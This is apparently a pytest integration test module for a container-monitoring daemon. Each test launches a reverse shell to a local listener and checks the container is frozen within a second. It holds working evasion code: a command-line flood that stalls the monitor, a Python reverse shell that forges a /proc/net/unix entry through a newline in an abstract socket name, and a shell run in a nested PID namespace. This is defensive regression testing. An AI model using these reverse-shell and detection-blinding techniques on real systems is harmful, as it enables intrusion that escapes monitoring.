"""Issue 16, class 6: the monitor can be neither blinded nor bypassed by what a container
controls. Each test does the attack inside a real container watched by a real daemon with
auto-kill, and asserts the reverse shell that follows is frozen within SHELL_TO_FROZEN_SEC
of its connection (then deleted).

- a flood of pathological command lines (`sh -c` with a 120 k run of '>', and a 117 k
  pipeline of `curl x |`) with a reverse shell started in the middle of it: rules on such
  argv took 0.07-0.2 s each in the daemon's one loop, so the shell's exec waited behind them
  (3.1 s measured before the fix; 13-54 ms after);
- a reverse shell that first binds an abstract unix socket whose name holds a newline and a
  forged /proc/net/unix line naming its TCP socket's inode: the daemon read that table to
  rule out unix sockets and so never saw the connection on the shell's stdio.

Network targets are the bridge address only (listeners started here), as in
tests/integration/test_monitor.py, whose harness this module shares.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any

import pytest

from tests.integration.test_monitor import (
    GATEWAY,
    PY_DUP2,
    Listener,
    Monitor,
    run_file,
    running_monitor,
    wait_until,
)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")

SHELL_TO_FROZEN_SEC = 1.0


@pytest.fixture(scope="module")
def evasion_mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(f"{run_prefix}e", incus, image, tmp_path_factory) as monitor:
        yield monitor


def frozen_after_connection(
    mon: Monitor, name: str, listener: Listener, timeout: float = 30
) -> float:
    """Waits for the container's kill; seconds from the shell's connection to the freeze
    (the kill record is sent once the container is frozen)."""
    record = mon.first_critical(name, timeout=timeout)
    assert record["action"] == "killed", record
    assert record["category"] == "process", record
    wait_until(lambda: listener.accepted, 5, "the shell's connection")
    mon.assert_status(name, "Gone")
    latency = record["_received"] - listener.accepted[0]
    print(f"\n{name}: {record['rule_id']}, connection->frozen {latency * 1000:.0f} ms")
    return latency


FLOOD = """X=$(python3 -c "print(')' + 'curl x | ' * 13000)")
Y=$(python3 -c "print('>' * 120000)")
( for i in $(seq 200); do
    sh -c "$X" 2>/dev/null; sh -c "$Y" 2>/dev/null
    [ "$i" = 20 ] && touch /tmp/flooding
  done ) &
until [ -e /tmp/flooding ]; do sleep 0.02; done
python3 /tmp/p.py
"""


def test_pathological_command_lines_do_not_delay_a_reverse_shell(evasion_mon: Monitor) -> None:
    mon = evasion_mon
    name = mon.container()
    listener = Listener()
    try:
        shell = PY_DUP2.format(host=GATEWAY, port=listener.port)
        mon.incus.push_file(name, "/tmp/p.py", shell.encode())
        # the shell starts once forty huge execs have run, and the flood goes on (400 in all)
        mon.trigger(name, run_file("/tmp/flood.sh", FLOOD, "bash"))
        assert frozen_after_connection(mon, name, listener) < SHELL_TO_FROZEN_SEC
    finally:
        listener.close()


FORGED = """import os, socket
s = socket.create_connection(("{host}", {port}))
inode = os.fstat(s.fileno()).st_ino
# an abstract name printed raw in /proc/net/unix: its second line claims the TCP inode
name = b"\\0x\\n0000000000000000: 00000002 00000000 00010000 0001 01 %d" % inode
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
u.bind(name)
u.listen(1)
u.set_inheritable(True)
table = open("/proc/net/unix").read().splitlines()
assert any(line.split()[6:7] == [str(inode)] for line in table[1:]), "not forged"
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""


def test_a_forged_unix_socket_name_does_not_hide_a_reverse_shell(evasion_mon: Monitor) -> None:
    mon = evasion_mon
    name = mon.container()
    listener = Listener()
    try:
        script = FORGED.format(host=GATEWAY, port=listener.port)
        mon.trigger(name, run_file("/tmp/forged.py", script, "python3"))
        assert frozen_after_connection(mon, name, listener) < SHELL_TO_FROZEN_SEC
    finally:
        listener.close()


def test_a_reverse_shell_in_a_nested_pid_namespace_is_killed(evasion_mon: Monitor) -> None:
    """A process in a pid namespace nested in the container (`sudo unshare -pf`, or docker
    inside the session) was never watched: only the container's own namespace was."""
    mon = evasion_mon
    name = mon.container()
    listener = Listener()
    try:
        shell = PY_DUP2.format(host=GATEWAY, port=listener.port)
        runner = "su code -c 'sudo unshare -pf --mount-proc python3 /tmp/p.py' #"
        mon.trigger(name, run_file("/tmp/p.py", shell, runner))
        assert frozen_after_connection(mon, name, listener, timeout=20) < SHELL_TO_FROZEN_SEC
    finally:
        listener.close()
